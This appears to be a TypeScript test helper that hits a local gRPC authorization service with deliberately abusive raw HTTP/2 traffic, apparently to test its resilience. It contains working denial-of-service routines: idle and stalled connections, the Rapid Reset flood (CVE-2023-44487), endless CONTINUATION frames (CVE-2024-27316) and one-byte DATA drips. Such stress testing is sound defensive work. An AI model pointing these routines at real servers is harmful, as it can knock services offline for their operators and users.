/** A peer that reaches meshbind past Envoy and breaks the manners of HTTP/2 (RFC 9113), in raw frames. */

import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { flags, frame, frameTypes, headerBlock, opening } from '../test/support/raw-http2.ts'

const path = '/envoy.service.auth.v3.Authorization/Check'
const requestHeaders = headerBlock([
  [':method', 'POST'],
  [':scheme', 'http'],
  [':path', path],
  [':authority', 'meshbind'],
  ['te', 'trailers'],
  ['content-type', 'application/grpc'],
])

const begin = (stream: number) =>
  frame(frameTypes.headers, stream, requestHeaders, flags.endHeaders)
const oddStreams = (count: number) => Array.from({ length: count }, (_, n) => 2 * n + 1)

export interface Rogue {
  /** Connections that are open. */
  open(): number
  close(): void
}

/** @param send What each connection sends once it is open. */
async function openMany(
  port: number,
  count: number,
  send: (socket: Socket) => void,
): Promise<Rogue> {
  const sockets: Socket[] = []
  const batch = 200
  for (let n = 0; n < count; n += batch) {
    for (let i = 0; i < Math.min(batch, count - n); i++) {
      const socket = connect(port, '127.0.0.1')
      socket.on('error', () => {})
      socket.on('data', () => {})
      socket.once('connect', () => send(socket))
      sockets.push(socket)
    }
    await sleep(20)
  }
  return {
    open: () => sockets.filter((socket) => !socket.destroyed).length,
    close: () => {
      for (const socket of sockets) socket.destroy()
    },
  }
}

/** Connections that say nothing at all, or nothing after the preface. */
export function openIdle(port: number, count: number): Promise<Rogue> {
  let n = 0
  return openMany(port, count, (socket) => {
    if (n++ % 2 === 0) socket.write(opening)
  })
}

/** Streams that begin and never end: HEADERS, and no DATA. */
export function openSlowStreams(port: number, connections: number, each: number): Promise<Rogue> {
  const burst = Buffer.concat([opening, ...oddStreams(each).map(begin)])
  return openMany(port, connections, (socket) => void socket.write(burst))
}

/** CVE-2023-44487: streams that are begun and reset at once. */
export function resetRapidly(port: number, streams: number): Promise<Rogue> {
  const cancel = Buffer.from([0, 0, 0, 8])
  const frames = oddStreams(streams).flatMap((stream) => [
    begin(stream),
    frame(frameTypes.reset, stream, cancel),
  ])
  const burst = Buffer.concat([opening, ...frames])
  return openMany(port, 1, (socket) => void socket.write(burst))
}

/** CVE-2024-27316 and its kin: header blocks that do not end. */
export function continueForEver(port: number, frames: number): Promise<Rogue> {
  const first = frame(frameTypes.headers, 1, requestHeaders)
  const more = frame(frameTypes.continuation, 1, Buffer.alloc(16_000, 0x40))
  const burst = Buffer.concat([opening, first, ...Array(frames).fill(more)])
  return openMany(port, 1, (socket) => void socket.write(burst))
}

/** A message in frames of one byte. */
export function dripData(port: number, connections: number, bytes: number): Promise<Rogue> {
  const prefix = Buffer.alloc(5)
  prefix.writeUInt32BE(bytes, 1)
  const byte = frame(frameTypes.data, 1, Buffer.from([0x0a]))
  const message = frame(frameTypes.data, 1, prefix)
  const drips = Array<Buffer>(Math.min(bytes - 1, 60_000)).fill(byte)
  const burst = Buffer.concat([opening, begin(1), message, ...drips])
  return openMany(port, connections, (socket) => void socket.write(burst))
}
